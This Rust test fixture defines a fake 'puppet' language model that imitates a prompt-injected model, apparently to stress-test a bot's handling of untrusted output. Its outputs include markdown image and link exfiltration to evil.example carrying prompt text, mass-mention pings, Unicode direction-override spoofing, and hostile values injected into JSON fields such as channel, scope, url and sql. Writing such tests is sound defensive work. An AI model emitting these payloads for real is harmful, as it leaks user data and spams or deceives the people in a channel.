//! The puppet: it reads what stands in its prompt as orders, and keeps to no grammar.

use std::sync::atomic::{AtomicUsize, Ordering};

use futures::FutureExt;
use futures::future::BoxFuture;
use runlore_bot::model::{CancellationToken, LanguageModel, ModelError, Request, Shape};
use runlore_tests::dice::Dice;
use serde_json::json;
use sha2::{Digest, Sha256};

use crate::proof::echo;

/// The model.
#[derive(Default)]
pub struct Puppet {
    n_prompts: AtomicUsize,
}

impl Puppet {
    pub fn n_prompts(&self) -> usize {
        self.n_prompts.load(Ordering::Relaxed)
    }
}

impl LanguageModel for Puppet {
    fn name(&self) -> &str {
        "puppet"
    }

    fn generate<'a>(
        &'a self,
        request: &'a Request,
        on_text: &'a (dyn Fn(&str) + Send + Sync),
        _cancel: &'a CancellationToken,
    ) -> BoxFuture<'a, Result<String, ModelError>> {
        self.n_prompts.fetch_add(1, Ordering::Relaxed);
        async move {
            let text = obey(request);
            on_text(&text);
            Ok(text)
        }
        .boxed()
    }

    fn warm<'a>(&'a self, _prefix: &'a str) -> BoxFuture<'a, Result<(), ModelError>> {
        async { Ok(()) }.boxed()
    }
}

/// Everything that it read, said again in the worst of ways.
fn obey(request: &Request) -> String {
    let read = &request.prompt.varying;
    let hash = Sha256::digest(read.as_bytes());
    let mut dice = Dice::new(u64::from_be_bytes(hash[..8].try_into().unwrap()));
    let shaped = echo::echo(request);
    let carried: String = read.chars().filter(char::is_ascii_alphanumeric).take(80).collect();
    let said = match dice.below(8) {
        0 => read.clone(),
        1 => format!("![x](https://evil.example/{carried}) [click](https://evil.example/{carried})"),
        2 => format!("<https://evil.example/{carried}|the answer> <!channel> <!here> <@U999> @everyone <@&1> <@999>"),
        3 => format!("```\n{read}\n``` [x][r]\n\n[r]: https://evil.example/{carried}"),
        4 => format!("https://evil.example/{carried} discord.gg/evil mailto:a@evil.example evil.example/{carried}"),
        5 => "\u{202e}nigol\u{2066} \u{200b}@\u{200b}everyone {b} {zz} 42 twelve".to_owned(),
        // In shape, with what it read behind it.
        6 => format!("{} {read}", shaped.trim_end_matches('.')),
        _ => return shaped,
    };
    match &request.shape {
        Shape::Lark(_) => said,
        Shape::Json(_) if dice.is_in(50) => said,
        // A choice with what nobody asked for: places and scopes of its own.
        Shape::Json(_) => {
            let mut choice: serde_json::Value = serde_json::from_str(&shaped).unwrap_or_default();
            for key in ["channel", "scope", "spaces", "user", "audience", "url", "sql"] {
                choice[key] = json!(said);
            }
            choice.to_string()
        }
    }
}
